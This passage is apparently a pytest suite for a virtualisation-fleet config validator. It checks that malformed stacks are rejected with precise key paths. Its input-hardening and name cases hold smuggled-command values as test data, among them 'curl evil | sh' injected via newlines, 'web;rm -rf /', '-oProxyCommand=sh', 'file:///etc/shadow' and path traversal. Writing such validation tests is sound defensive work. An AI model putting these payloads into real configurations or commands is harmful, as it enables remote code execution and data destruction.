"""L1: a corpus of malformed stacks; each error names the key a user would edit.

Every case mutates a copy of the prod stack in one way and names the key path the report must
carry. Paths are as users type them: ``virtfleet:guests[2].network.ip``.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

import pytest
import yaml
from conftest import stack_values

from components.model import FleetConfigError, load_fleet
from plan.__main__ import main as plan_main
from plan.run import load_stack


def guest(values: dict, name: str) -> dict:
    return next(g for g in values["guests"] if g["name"] == name)


def host(values: dict, name: str) -> dict:
    return next(h for h in values["hosts"] if h["name"] == name)


def _set(path_fn: Callable[[dict], dict], key: str, value) -> Callable[[dict], None]:
    def mutate(values: dict) -> None:
        path_fn(values)[key] = value

    return mutate


def _del(path_fn: Callable[[dict], dict], key: str) -> Callable[[dict], None]:
    return lambda values: path_fn(values).pop(key)


LB = "virtfleet:loadBalancer"
HAPROXY2 = next(g for g in stack_values("prod")["guests"] if g["name"] == "haproxy2")


def one_balancer(values: dict) -> dict:
    """prod with one balancer node, written as ``node`` (the key most of this corpus was built on); haproxy2
    goes, so the guests' indices are those the cases name. The pair's cases (``_pair``) put it back."""
    values["guests"] = [g for g in values["guests"] if g["name"] != "haproxy2"]
    lb = values["loadBalancer"]
    for key in ("nodes", "virtualAddress", "vrrp"):
        del lb[key]
    lb["node"] = "haproxy"
    lb["frontend"]["address"] = lb["stats"]["bind"]["address"] = "10.0.0.10"
    return values


def _pair(edit: Callable[[dict, dict], object]) -> Callable[[dict], None]:
    """prod's balancer pair again (haproxy and haproxy2 sharing 10.0.0.30), then ``edit(loadBalancer, values)``."""

    def mutate(values: dict) -> None:
        values["guests"].append(copy.deepcopy(HAPROXY2))
        lb = values["loadBalancer"]
        del lb["node"]
        lb |= {"nodes": ["haproxy", "haproxy2"], "virtualAddress": "10.0.0.30", "vrrp": {"routerId": 30}}
        lb["frontend"]["address"] = lb["stats"]["bind"]["address"] = "10.0.0.30"
        edit(lb, values)

    return mutate


def _one_node(lb: dict) -> None:
    lb["nodes"] = ["haproxy"]
    del lb["virtualAddress"], lb["vrrp"]
    lb["frontend"]["address"] = lb["stats"]["bind"]["address"] = "10.0.0.10"


def _guest_named(values: dict, name: str) -> dict:
    return next(g for g in values["guests"] if g["name"] == name)


@pytest.fixture
def prod_values(prod_values: dict) -> dict:
    return one_balancer(prod_values)


def _net(name):
    return lambda v: guest(v, name)["network"]


def _lb(v):
    return v["loadBalancer"]


def _add_guest(entry: dict) -> Callable[[dict], None]:
    return lambda values: values["guests"].append(entry)


KVM1 = lambda v: host(v, "kvm1")  # noqa: E731
WEB1 = lambda v: guest(v, "webserver1")  # noqa: E731
BRIDGE = lambda v: host(v, "kvm1")["bridges"][0]  # noqa: E731
CAP = lambda v: host(v, "kvm1")["capacity"]  # noqa: E731
CONSOLE = lambda v: host(v, "kvm1")["console"]  # noqa: E731

INSTALL = lambda v: guest(v, "centos7guest")["install"]  # noqa: E731
HAPROXY = lambda v: guest(v, "haproxy")  # noqa: E731
DOCKER = {"name": "d2", "type": "docker", "host": "docker1", "image": "nginx:1"}


def _ssh(key: str, value) -> Callable[[dict], None]:
    return lambda values: values.setdefault("ssh", {}).update({key: value})


def _docker(**extra) -> Callable[[dict], None]:
    return _add_guest({**DOCKER, **extra})


# Real keys (fixed bytes), so a test never depends on a random key; the RSA one is only a header.
ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAOhB7/zzhC+HXDdGOdLwJln5NYwm6UNXx3chmQSVTG4"
ED25519_BODY = ED25519.split()[1]
PRIVATE = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----"
)

# Input hardening (issue 17): each value is checked for the grammar of where it lands.
PAIR_CASES: list[tuple[str, Callable[[dict], None], str, str]] = [
    ("pair-node-and-nodes", _pair(lambda lb, v: lb.update(node="haproxy")), LB, "node (one balancer) or nodes"),
    ("pair-no-node", _pair(lambda lb, v: lb.pop("nodes")), LB, "nodes (or node) is required"),
    (
        "pair-three-nodes",
        _pair(lambda lb, v: lb.update(nodes=["haproxy", "haproxy2", "webserver1"])),
        LB + ".nodes",
        "at most 2",
    ),
    (
        "pair-same-node-twice",
        _pair(lambda lb, v: lb.update(nodes=["haproxy", "haproxy"])),
        LB + ".nodes[1]",
        "is nodes[0] again",
    ),
    (
        "pair-no-virtual-address",
        _pair(lambda lb, v: lb.pop("virtualAddress")),
        LB + ".virtualAddress",
        "is required with two nodes",
    ),
    ("pair-no-vrrp", _pair(lambda lb, v: lb.pop("vrrp")), LB + ".vrrp", "is required with two nodes"),
    (
        "pair-router-id-high",
        _pair(lambda lb, v: lb.update(vrrp={"routerId": 256})),
        LB + ".vrrp.routerId",
        "less than or equal to 255",
    ),
    (
        "pair-router-id-zero",
        _pair(lambda lb, v: lb.update(vrrp={"routerId": 0})),
        LB + ".vrrp.routerId",
        "greater than or equal to 1",
    ),
    (
        "pair-advert-not-10ms",
        _pair(lambda lb, v: lb.update(vrrp={"routerId": 7, "advertIntervalMs": 205})),
        LB + ".vrrp.advertIntervalMs",
        "multiple of 10",
    ),
    (
        "pair-vip-other-network",
        _pair(lambda lb, v: lb.update(virtualAddress="10.0.1.30")),
        LB + ".nodes[0]",
        "not on the network of 10.0.1.30",
    ),
    *(
        (f"pair-vip-{what}", _pair(lambda lb, v, vip=vip: lb.update(virtualAddress=vip)), LB + ".virtualAddress", said)
        for what, vip, said in (
            ("broadcast", "10.0.0.255", "the network's or the broadcast address of 10.0.0.0/24"),
            ("a-guests", "10.0.0.11", "is already guest webserver1's address"),
            ("the-gateway", "10.0.0.1", "is already the gateway of host kvm1's brid0"),
            ("a-hosts", "10.0.0.3", "is already host xen1's address"),
        )
    ),
    (
        "pair-frontend-not-vip",
        _pair(lambda lb, v: lb["frontend"].update(address="10.0.0.10")),
        LB + ".frontend.address",
        "must be the virtual address (10.0.0.30) or 0.0.0.0",
    ),
    (
        "pair-stats-not-vip",
        _pair(lambda lb, v: lb["stats"]["bind"].update(address="10.0.0.9")),
        LB + ".stats.bind.address",
        "is not the pair's virtual address (10.0.0.30, 127.0.0.1 or 0.0.0.0)",
    ),
    (
        "pair-docker-node",
        _pair(lambda lb, v: lb.update(nodes=["haproxy", "backupwebserver"], backups=[])),
        LB + ".nodes[1]",
        "a docker guest cannot be one of two balancer nodes",
    ),
    (
        "pair-openvz-node",
        _pair(lambda lb, v: lb.update(nodes=["haproxy", "webserver3"], backends=["webserver1", "webserver2"])),
        LB + ".nodes[1]",
        "a openvz guest cannot be one of two balancer nodes",
    ),
    (
        "pair-el7-node",
        _pair(lambda lb, v: _guest_named(v, "haproxy2").update(osFamily="el7")),
        LB + ".nodes[1]",
        "runs el7, whose haproxy is 1.5",
    ),
    (
        "pair-unknown-node",
        _pair(lambda lb, v: lb.update(nodes=["haproxy", "nowhere"])),
        LB + ".nodes[1]",
        "names no host or guest",
    ),
    (
        "pair-vip-one-node",
        _pair(lambda lb, v: (_one_node(lb), lb.update(virtualAddress="10.0.0.30"))),
        LB + ".virtualAddress",
        "only with two nodes",
    ),
    (
        "pair-vrrp-one-node",
        _pair(lambda lb, v: (_one_node(lb), lb.update(vrrp={"routerId": 3}))),
        LB + ".vrrp",
        "only with two nodes",
    ),
    (
        "pair-node-as-backend",
        _pair(lambda lb, v: lb.update(backends=["webserver1", "haproxy2"])),
        LB + ".backends[1]",
        "a balancer node cannot balance onto itself",
    ),
    (
        "pair-two-networks",
        _pair(
            lambda lb, v: (
                lb.update(nodes=["haproxy", "docker1"], backups=[]),
                host(v, "docker1")["bridges"][0].update(address="10.0.0.6/16"),
            )
        ),
        LB + ".virtualAddress",
        "the nodes are on 10.0.0.0/24 and 10.0.0.0/16: one network",
    ),
]

HARDENING_CASES: list[tuple[str, Callable[[dict], None], str, str]] = [
    # kickstart: %packages lines, the timezone command, the url command
    (
        "ks-package-ends-section",
        _set(INSTALL, "packages", ["@core", "httpd\n%end\n%post\ncurl evil | sh\n%end"]),
        "virtfleet:guests[2].install.packages[1]",
        "pattern",
    ),
    (
        "ks-package-shell",
        _set(INSTALL, "packages", ["httpd; reboot"]),
        "virtfleet:guests[2].install.packages[0]",
        "pattern",
    ),
    (
        "ks-package-space",
        _set(INSTALL, "packages", ["httpd --nobase"]),
        "virtfleet:guests[2].install.packages[0]",
        "pattern",
    ),
    (
        "ks-exclude-environment",
        _set(INSTALL, "packages", ["@core", "-@^minimal-environment"]),
        "virtfleet:guests[2].install.packages[1]",
        "pattern",
    ),
    (
        # pykickstart resolves it by order (found by the property test with ['000', '-000'])
        "ks-package-installed-and-excluded",
        _set(INSTALL, "packages", ["@core", "httpd", "-httpd"]),
        "virtfleet:guests[2].install.packages",
        "listed both to install and to exclude",
    ),
    (
        "ks-group-installed-and-excluded",
        _set(INSTALL, "packages", ["-@core", "@core"]),
        "virtfleet:guests[2].install.packages",
        "listed both to install and to exclude",
    ),
    (
        "ks-two-environments",
        _set(INSTALL, "packages", ["@^minimal-environment", "@^server-product-environment"]),
        "virtfleet:guests[2].install.packages",
        "one @^environment at most",
    ),
    (
        "ks-timezone-newline",
        _set(INSTALL, "timezone", "UTC\n%post\nreboot\n%end"),
        "virtfleet:guests[2].install.timezone",
        "tz database",
    ),
    (
        "ks-timezone-option",
        _set(INSTALL, "timezone", "UTC --isUtc"),
        "virtfleet:guests[2].install.timezone",
        "tz database",
    ),
    (
        "ks-timezone-unknown",
        _set(INSTALL, "timezone", "Mars/Olympus"),
        "virtfleet:guests[2].install.timezone",
        "tz database",
    ),
    (
        "ks-url-quote",
        _set(INSTALL, "location", "https://mirror.example/os/'$(reboot)'/"),
        "virtfleet:guests[2].install.location",
        "percent-encode",
    ),
    ("ks-url-scheme", _set(INSTALL, "location", "file:///etc/shadow"), "virtfleet:guests[2].install.location", "URL"),
    # cloud-config: packages go to dnf/yum, runcmd to sh
    (
        "cc-package-option",
        _set(WEB1, "packages", ["--setopt=gpgcheck=0"]),
        "virtfleet:guests[1].packages[0]",
        "pattern",
    ),
    ("cc-package-quote", _set(WEB1, "packages", ['httpd", "evil']), "virtfleet:guests[1].packages[0]", "pattern"),
    ("cc-package-exclude", _set(WEB1, "packages", ["-httpd"]), "virtfleet:guests[1].packages[0]", "pattern"),
    ("cc-runcmd-newline", _set(WEB1, "runcmd", ["true\nruncmd: [reboot]"]), "virtfleet:guests[1].runcmd[0]", "pattern"),
    # authorized keys: written into the kickstart's %post here-document and the cloud-config
    (
        "key-newline-injection",
        _ssh("authorizedKeys", [ED25519 + " me\nVIRTFLEET_KEYS\ncurl evil | sh"]),
        "virtfleet:ssh.authorizedKeys[0]",
        "one line",
    ),
    ("key-private", _ssh("authorizedKeys", [PRIVATE]), "virtfleet:ssh.authorizedKeys[0]", "private key"),
    ("key-not-a-key", _ssh("authorizedKeys", ["hello world"]), "virtfleet:ssh.authorizedKeys[0]", "<type> <base64>"),
    (
        "key-mislabelled",
        _ssh("authorizedKeys", ["ssh-rsa " + ED25519_BODY + " me@x"]),
        "virtfleet:ssh.authorizedKeys[0]",
        "not a ssh-rsa key",
    ),
    (
        "key-truncated",
        _ssh("authorizedKeys", ["ssh-ed25519 " + ED25519_BODY[:-8]]),
        "virtfleet:ssh.authorizedKeys[0]",
        "base64 body",
    ),
    (
        "key-with-options",
        _ssh("authorizedKeys", ['command="/bin/sh" ' + ED25519]),
        "virtfleet:ssh.authorizedKeys[0]",
        "no options",
    ),
    (
        "host-key-truncated",
        _set(KVM1, "hostKey", "ssh-ed25519 " + ED25519_BODY[:20]),
        "virtfleet:hosts[0].hostKey",
        "base64",
    ),
    (
        "host-key-mislabelled",
        _set(KVM1, "hostKey", "ecdsa-sha2-nistp256 " + ED25519_BODY),
        "virtfleet:hosts[0].hostKey",
        "not a",
    ),
    ("host-key-private", _set(KVM1, "hostKey", PRIVATE), "virtfleet:hosts[0].hostKey", "private key"),
    # host addresses: a libvirt URI, an ssh command line, /etc/hosts
    ("address-user", _set(KVM1, "address", "root@10.0.0.2"), "virtfleet:hosts[0].address", "ssh.user"),
    ("address-port", _set(KVM1, "address", "10.0.0.2:2222"), "virtfleet:hosts[0].address", "port key"),
    ("address-dash", _set(KVM1, "address", "-oProxyCommand=sh"), "virtfleet:hosts[0].address", "start with '-'"),
    ("address-space", _set(KVM1, "address", "kvm1 evil"), "virtfleet:hosts[0].address", "RFC 1123"),
    ("address-bad-ip", _set(KVM1, "address", "10.0.0.256"), "virtfleet:hosts[0].address", "IPv4"),
    ("jump-host-user", _ssh("jumpHost", {"host": "admin@bastion.example"}), "virtfleet:ssh.jumpHost.host", "ssh.user"),
    ("jump-host-dash", _ssh("jumpHost", {"host": "-J evil"}), "virtfleet:ssh.jumpHost.host", "start with '-'"),
    # DNS names
    ("domain-empty-label", lambda v: v.update(domain="packt..co.uk"), "virtfleet:domain", "empty label"),
    ("domain-trailing-dot", lambda v: v.update(domain="packt.co.uk."), "virtfleet:domain", "empty label"),
    ("domain-label-dash", lambda v: v.update(domain="-packt.co.uk"), "virtfleet:domain", "'-'"),
    ("domain-newline", lambda v: v.update(domain="packt.co.uk\n127.0.0.1 evil"), "virtfleet:domain", "RFC 1123"),
    (
        "https-common-name",
        _set(_lb, "https", {"enabled": True, "commonName": "lb.example/CN=evil"}),
        "virtfleet:loadBalancer.https.commonName",
        "RFC 1123",
    ),
    # other names that reach a command line
    ("env-name-not-a-name", _docker(env={"A=B": "x"}), "virtfleet:guests[8].env.A=B.[key]", "pattern"),
    ("env-name-digit", _docker(env={"1X": "x"}), "virtfleet:guests[8].env.1X.[key]", "pattern"),
    ("env-value-newline", _docker(env={"X": "a\nb"}), "virtfleet:guests[8].env.X", "pattern"),
    (
        "ostemplate-dash",
        _set(lambda v: guest(v, "webserver3"), "ostemplate", "--help"),
        "virtfleet:guests[5].ostemplate",
        "pattern",
    ),
    # durations
    (
        "timeout-negative",
        _set(_lb, "timeoutsMs", {"client": -5}),
        "virtfleet:loadBalancer.timeoutsMs.client",
        "greater",
    ),
    ("timeout-zero", _set(_lb, "timeoutsMs", {"server": 0}), "virtfleet:loadBalancer.timeoutsMs.server", "greater"),
    ("timeout-huge", _set(_lb, "timeoutsMs", {"connect": 10**12}), "virtfleet:loadBalancer.timeoutsMs.connect", "less"),
    (
        "health-interval-negative",
        _set(_lb, "healthCheck", {"intervalMs": -1000}),
        "virtfleet:loadBalancer.healthCheck.intervalMs",
        "greater",
    ),
    # MACs
    (
        "mac-all-zero",
        _set(_net("webserver1"), "mac", "00:00:00:00:00:00"),
        "virtfleet:guests[1].network.mac",
        "all-zero",
    ),
    (
        "mac-broadcast",
        _set(_net("webserver1"), "mac", "ff:ff:ff:ff:ff:ff"),
        "virtfleet:guests[1].network.mac",
        "multicast",
    ),
    # cross-field: ports, gateway, vCPUs
    (
        "port-is-host-ssh",
        _docker(ports=[{"hostPort": 22, "containerPort": 22}]),
        "virtfleet:guests[8].ports[0].hostPort",
        "SSH port virtfleet manages host docker1",
    ),
    (
        "port-is-custom-ssh",
        lambda v: (
            host(v, "docker1").update(port=2222),
            _docker(ports=[{"hostPort": 2222, "containerPort": 80, "hostIp": "10.0.0.6"}])(v),
        ),
        "virtfleet:guests[8].ports[0].hostPort",
        "SSH port",
    ),
    (
        "lb-frontend-on-ssh",
        _set(_lb, "frontend", {"address": "10.0.0.10", "port": 22}),
        "virtfleet:loadBalancer.frontend.port",
        "SSH port virtfleet manages guest haproxy",
    ),
    (
        "port-bound-twice-on-any",
        _docker(
            ports=[
                {"hostPort": 8080, "containerPort": 80, "hostIp": "0.0.0.0"},
                {"hostPort": 8080, "containerPort": 81},
            ]
        ),
        "virtfleet:guests[8].ports[1].hostPort",
        "already used",
    ),
    (
        "gateway-is-own-address",
        _set(BRIDGE, "gateway", "10.0.0.2"),
        "virtfleet:hosts[0].bridges[0].gateway",
        "own address",
    ),
    ("vcpus-above-threads", _set(WEB1, "vcpus", 17), "virtfleet:guests[1].vcpus", "hardware threads"),
    # one reading of booleans: a string that is not a boolean is refused, not read by truthiness
    ("use-agent-not-bool", _ssh("useAgent", "perhaps"), "virtfleet:ssh.useAgent", "boolean"),
    # the console role (Cockpit): who may reach it, its title in cockpit.conf, its timeout
    ("console-missing", _del(KVM1, "console"), "virtfleet:hosts[0].console.allowFrom", "required"),
    ("console-allow-empty", _set(CONSOLE, "allowFrom", []), "virtfleet:hosts[0].console.allowFrom", "at least 1"),
    ("console-allow-missing", _del(CONSOLE, "allowFrom"), "virtfleet:hosts[0].console.allowFrom", "required"),
    (
        "console-allow-host-bits",
        _set(CONSOLE, "allowFrom", ["10.0.0.7/24"]),
        "virtfleet:hosts[0].console.allowFrom[0]",
        "host bits set: the network is 10.0.0.0/24",
    ),
    (
        "console-allow-not-cidr",
        _set(CONSOLE, "allowFrom", ["10.0.0.0/24; reboot"]),
        "virtfleet:hosts[0].console.allowFrom[0]",
        "CIDR",
    ),
    (
        "console-allow-twice",
        _set(CONSOLE, "allowFrom", ["10.0.0.0/24", "10.0.0.0/24"]),
        "virtfleet:hosts[0].console.allowFrom[1]",
        "already used at virtfleet:hosts[0].console.allowFrom[0]",
    ),
    ("console-title-escape", _set(CONSOLE, "title", "kvm1\x1b[31m"), "virtfleet:hosts[0].console.title", "pattern"),
    ("console-title-newline", _set(CONSOLE, "title", "kvm1\n[Session]"), "virtfleet:hosts[0].console.title", "pattern"),
    ("console-title-backslash", _set(CONSOLE, "title", "kvm1\\n"), "virtfleet:hosts[0].console.title", "pattern"),
    (
        "console-timeout-zero",
        _set(CONSOLE, "idleTimeoutMinutes", 0),
        "virtfleet:hosts[0].console.idleTimeoutMinutes",
        "greater",
    ),
    (
        "console-timeout-huge",
        _set(CONSOLE, "idleTimeoutMinutes", 1441),
        "virtfleet:hosts[0].console.idleTimeoutMinutes",
        "less",
    ),
    (
        "console-without-firewall",
        _set(KVM1, "firewall", False),
        "virtfleet:hosts[0].firewall",
        "console.allowFrom is enforced by its rules",
    ),
    (
        "console-without-role",
        _set(lambda v: host(v, "ovz1"), "console", {"allowFrom": ["10.0.0.0/24"]}),
        "virtfleet:hosts[2].console",
        "has no console role",
    ),
    (
        "console-dns-address-no-bridge",
        lambda v: v["hosts"].append(
            {
                "name": "kvm9",
                "address": "kvm9.packt.co.uk",
                "roles": ["console"],
                "capacity": {"cpuThreads": 2, "memoryMiB": 1024, "diskGiB": 10},
                "console": {"allowFrom": ["10.0.0.0/24"]},
            }
        ),
        "virtfleet:hosts[5].address",
        "management IPv4 address",
    ),
    (
        "console-port-taken",
        _docker(ports=[{"hostPort": 9090, "containerPort": 9090, "hostIp": "10.0.0.2"}], host="kvm1"),
        "virtfleet:guests[8].ports[0].hostPort",
        "the console 9090/tcp is already used",
    ),
]

# (case id, mutation, the key path the report must name, a word the message must contain)
XEN2 = lambda v: guest(v, "webserver2")  # noqa: E731
VBOX = lambda v: guest(v, "centos7vm1")  # noqa: E731
BACKUP = lambda v: guest(v, "backupwebserver")  # noqa: E731
TREE = {"location": "https://vault.centos.org/7.9.2009/os/x86_64/"}

# Rules that had no case until tests/test_model_rules_covered.py named them (issue 19).
RULE_CASES: list[tuple[str, Callable[[dict], None], str, str]] = [
    ("domain-too-long", lambda v: v.update(domain=".".join(["a" * 60] * 5)), "virtfleet:domain", "1 to 253"),
    ("guest-not-a-mapping", lambda v: v["guests"].append("web9"), "virtfleet:guests[8]", "mapping"),
    (
        "bridge-on-the-network-address",
        _set(BRIDGE, "address", "10.0.0.0/24"),
        "virtfleet:hosts[0].bridges[0].address",
        "network or broadcast",
    ),
    ("host-role-twice", _set(KVM1, "roles", ["kvm", "kvm"]), "virtfleet:hosts[0].roles", "once"),
    (
        "xen-image-and-install",
        lambda v: XEN2(v).update(mode="pv", image={}, install=TREE),
        "virtfleet:guests[3]",
        "not both",
    ),
    ("xen-install-not-pv", lambda v: XEN2(v).update(install=TREE, image=None), "virtfleet:guests[3]", "mode: pv"),
    ("xen-maxmem-below-memory", _set(XEN2, "maxMemoryMiB", 1024), "virtfleet:guests[3]", "maxMemoryMiB 1024"),
    ("xen-maxvcpus-below-vcpus", _set(XEN2, "maxVcpus", 1), "virtfleet:guests[3]", "maxVcpus 1"),
    ("xen-graphics-without-hvm", _set(XEN2, "graphics", "vnc"), "virtfleet:guests[3]", "needs mode: hvm"),
    (
        "vbox-image-not-a-disk",
        _set(VBOX, "image", "https://images.example/centos7.qcow2"),
        "virtfleet:guests[6].image",
        ".vdi or .vmdk",
    ),
    (
        "vbox-image-and-install",
        lambda v: VBOX(v).update(image="https://images.example/centos7.vdi", install=TREE),
        "virtfleet:guests[6]",
        "not both",
    ),
    ("docker-paused", _set(BACKUP, "powerState", "paused"), "virtfleet:guests[7].powerState", "not supported"),
    (
        "docker-autostart-vs-restart",
        lambda v: BACKUP(v).update(autostart=False, restart="always"),
        "virtfleet:guests[7]",
        "restart: no",
    ),
    (
        "openvz-family-not-the-templates",
        lambda v: guest(v, "webserver3").update(ostemplate="centos-7-x86_64", osFamily="el9"),
        "virtfleet:guests[5].osFamily",
        "is el7",
    ),
    (
        "lb-backend-without-network",
        lambda v: (_docker()(v), _lb(v)["backends"].append("d2")),
        "virtfleet:loadBalancer.backends[3]",
        "needs network.ip",
    ),
    (
        "lb-https-port-clash",
        _set(_lb, "https", {"enabled": True, "port": 80}),
        "virtfleet:loadBalancer.https.port",
        "the port 80/tcp is already used at virtfleet:loadBalancer.frontend.port",
    ),
    (
        "lb-frontend-on-the-ssh-port",
        _set(_lb, "frontend", {"address": "10.0.0.10", "port": 22}),
        "virtfleet:loadBalancer.frontend.port",
        "the SSH port virtfleet manages guest haproxy through 22/tcp is already used at virtfleet:guests[0].name",
    ),
    (
        "lb-on-a-host-frontend-foreign",
        lambda v: _lb(v).update(node="vbox1", frontend={"address": "10.0.0.99", "port": 80}),
        "virtfleet:loadBalancer.frontend.address",
        "is not an address of vbox1 (10.0.0.5, 127.0.0.1 or 0.0.0.0)",
    ),
    (
        "lb-on-a-dns-named-host-frontend-foreign",
        lambda v: (
            KVM1(v).update(address="kvm1.lab.example"),
            _lb(v).update(node="kvm1", frontend={"address": "10.0.0.99", "port": 80}),
        ),
        "virtfleet:loadBalancer.frontend.address",
        "is not an address of kvm1 (10.0.0.2, 127.0.0.1 or 0.0.0.0)",
    ),
    (
        "lb-on-a-guest-without-address",
        lambda v: (_docker()(v), _lb(v).update(node="d2")),
        "virtfleet:loadBalancer.frontend.address",
        "is not an address of d2 (none, 127.0.0.1 or 0.0.0.0)",
    ),
    (
        "host-name-duplicate",
        _set(lambda v: host(v, "xen1"), "name", "kvm1"),
        "virtfleet:hosts[1].name",
        "the name kvm1 is already used at virtfleet:hosts[0].name",
    ),
    (
        "bridge-name-duplicate",
        lambda v: KVM1(v)["bridges"].append({"name": "brid0", "interface": "eth1", "address": "10.9.0.2/24"}),
        "virtfleet:hosts[0].bridges[1].name",
        "the bridge name brid0 is already used at virtfleet:hosts[0].bridges[0].name",
    ),
    (
        "bridge-interface-duplicate",
        lambda v: KVM1(v)["bridges"].append({"name": "brid1", "interface": "eth0", "address": "10.9.0.2/24"}),
        "virtfleet:hosts[0].bridges[1].interface",
        "the interface eth0 is already used at virtfleet:hosts[0].bridges[0].interface",
    ),
    (
        # guests[0] has no MAC of its own: an absent value is skipped, the search goes on
        "mac-duplicate-after-a-guest-without-one",
        lambda v: guest(v, "centos7guest")["network"].update(mac="52:54:00:00:00:11"),
        "virtfleet:guests[2].network.mac",
        "the MAC address 52:54:00:00:00:11 is already used at virtfleet:guests[1].network.mac",
    ),
    (
        "el7-only-role-on-el9",
        _set(lambda v: host(v, "xen1"), "osFamily", "el9"),
        "virtfleet:hosts[1].osFamily",
        "the xen role needs el7: ",
    ),
    (
        "el7-only-role-on-el9-names-the-family",
        _set(lambda v: host(v, "xen1"), "osFamily", "el9"),
        "virtfleet:hosts[1].osFamily",
        "(got 'el9')",
    ),
    (
        "health-timeout-above-interval",
        _set(lambda v: _lb(v)["healthCheck"], "timeoutMs", 600),
        "virtfleet:loadBalancer.healthCheck.timeoutMs",
        "cannot exceed its interval",
    ),
    # What the providers cannot do, found by the first real `pulumi up` (issue 23).
    (
        "kvm-host-ssh-port-not-22",
        _set(KVM1, "port", 2222),
        "virtfleet:hosts[0].port",
        "reaches libvirt over SSH on port 22 only (it reads a port in its qemu+ssh URI as part of the host "
        "name): give this host port 22 (got 2222)",
    ),
    (
        "jump-host-with-a-kvm-host",
        _ssh("jumpHost", {"host": "10.0.0.1"}),
        "virtfleet:ssh.jumpHost",
        "would dial the kvm host(s) kvm1 directly: reach them without ssh.jumpHost (got '10.0.0.1')",
    ),
    (
        "agent-with-no-key-for-the-guests-logged-in-to",
        _ssh("useAgent", True),
        "virtfleet:ssh.authorizedKeys",
        "no key is put on the guests the program logs in to (haproxy, webserver1, webserver2: the HAProxy tier's)",
    ),
    (
        "ssh-private-key-not-a-key",
        lambda v: v.update(
            sshPrivateKey="-----BEGIN OPENSSH PRIVATE KEY-----\nbm90IGEga2V5\n-----END OPENSSH PRIVATE KEY-----"
        ),
        "virtfleet:sshPrivateKey",
        "does not parse as a private key (ValueError); set the whole file again",
    ),
]


CASES: list[tuple[str, Callable[[dict], None], str, str]] = [
    (
        "ip-outside-subnet",
        _set(_net("webserver1"), "ip", "10.1.0.5"),
        "virtfleet:guests[1].network.ip",
        "outside",
    ),
    (
        "ip-is-network",
        _set(_net("webserver1"), "ip", "10.0.0.0"),
        "virtfleet:guests[1].network.ip",
        "network",
    ),
    (
        "ip-is-broadcast",
        _set(_net("webserver1"), "ip", "10.0.0.255"),
        "virtfleet:guests[1].network.ip",
        "broadcast",
    ),
    (
        "ip-is-gateway",
        _set(_net("webserver1"), "ip", "10.0.0.1"),
        "virtfleet:guests[1].network.ip",
        "gateway",
    ),
    (
        "ip-is-host",
        _set(_net("webserver1"), "ip", "10.0.0.2"),
        "virtfleet:guests[1].network.ip",
        "own address",
    ),
    ("ip-not-an-ip", _set(_net("webserver1"), "ip", "10.0.0.300"), "virtfleet:guests[1].network.ip", "IPv4"),
    (
        "ip-duplicate",
        _set(_net("webserver1"), "ip", "10.0.0.10"),
        "virtfleet:guests[1].network.ip",
        "the IP address 10.0.0.10 is already used at virtfleet:guests[0].network.ip",
    ),
    (
        "mac-duplicate",
        lambda v: guest(v, "haproxy")["network"].update(mac="52:54:00:00:00:11"),
        "virtfleet:guests[1].network.mac",
        "the MAC address 52:54:00:00:00:11 is already used at virtfleet:guests[0].network.mac",
    ),
    (
        "mac-malformed",
        _set(_net("webserver1"), "mac", "52:54:00:00:11"),
        "virtfleet:guests[1].network.mac",
        "MAC",
    ),
    (
        "mac-multicast",
        _set(_net("webserver1"), "mac", "01:00:5e:00:00:01"),
        "virtfleet:guests[1].network.mac",
        "multicast",
    ),
    (
        "bridge-unknown",
        _set(_net("webserver1"), "bridge", "br9"),
        "virtfleet:guests[1].network.bridge",
        "host kvm1 has no such bridge (brid0)",
    ),
    (
        "guest-name-duplicate",
        _set(WEB1, "name", "haproxy"),
        "virtfleet:guests[1].name",
        "the name haproxy is already used at virtfleet:guests[0].name",
    ),
    (
        "guest-name-host-clash",
        _set(WEB1, "name", "kvm1"),
        "virtfleet:guests[1].name",
        "the name kvm1 is already used at virtfleet:hosts[0].name",
    ),
    ("guest-name-shell", _set(WEB1, "name", "web;rm -rf /"), "virtfleet:guests[1].name", "pattern"),
    ("guest-name-traversal", _set(WEB1, "name", "../../etc"), "virtfleet:guests[1].name", "pattern"),
    ("guest-name-uppercase", _set(WEB1, "name", "WebServer1"), "virtfleet:guests[1].name", "pattern"),
    ("guest-host-unknown", _set(WEB1, "host", "kvm9"), "virtfleet:guests[1].host", "no such host"),
    ("guest-type-unknown", _set(WEB1, "type", "lxc"), "virtfleet:guests[1].type", "one of"),
    ("guest-wrong-role", _set(WEB1, "host", "docker1"), "virtfleet:guests[1].type", "role"),
    ("guest-vcpus-zero", _set(WEB1, "vcpus", 0), "virtfleet:guests[1].vcpus", "greater"),
    ("guest-unknown-key", _set(WEB1, "memory", 1024), "virtfleet:guests[1].memory", "unknown key"),
    ("guest-power-state", _set(WEB1, "powerState", "sleeping"), "virtfleet:guests[1].powerState", "running"),
    ("guest-network-missing", _del(WEB1, "network"), "virtfleet:guests[1]", "needs network"),
    (
        "kvm-image-and-install",
        lambda v: WEB1(v).update(image={}, install={"location": "https://vault.centos.org/"}),
        "virtfleet:guests[1]",
        "either",
    ),
    (
        "ctid-duplicate",
        _add_guest(
            {
                "name": "ct2",
                "type": "openvz",
                "host": "ovz1",
                "ctid": 101,
                "network": {"bridge": "brid0", "ip": "10.0.0.30"},
            }
        ),
        "virtfleet:guests[8].ctid",
        "already used",
    ),
    (
        "ctid-reserved",
        _set(lambda v: guest(v, "webserver3"), "ctid", 100),
        "virtfleet:guests[5].ctid",
        "greater",
    ),
    (
        "docker-port-collision",
        _add_guest(
            {
                "name": "d2",
                "type": "docker",
                "host": "docker1",
                "image": "nginx:1",
                "ports": [{"hostPort": 8080, "containerPort": 80}, {"hostPort": 8080, "containerPort": 81}],
            }
        ),
        "virtfleet:guests[8].ports[1].hostPort",
        "already used",
    ),
    (
        "docker-port-range",
        _add_guest(
            {
                "name": "d2",
                "type": "docker",
                "host": "docker1",
                "image": "nginx:1",
                "ports": [{"hostPort": 70000, "containerPort": 80}],
            }
        ),
        "virtfleet:guests[8].ports[0].hostPort",
        "less than",
    ),
    (
        "docker-image-injection",
        _add_guest({"name": "d2", "type": "docker", "host": "docker1", "image": "nginx; curl evil"}),
        "virtfleet:guests[8].image",
        "pattern",
    ),
    ("roles-xen-kvm", _set(KVM1, "roles", ["kvm", "xen"]), "virtfleet:hosts[0].roles", "dom0"),
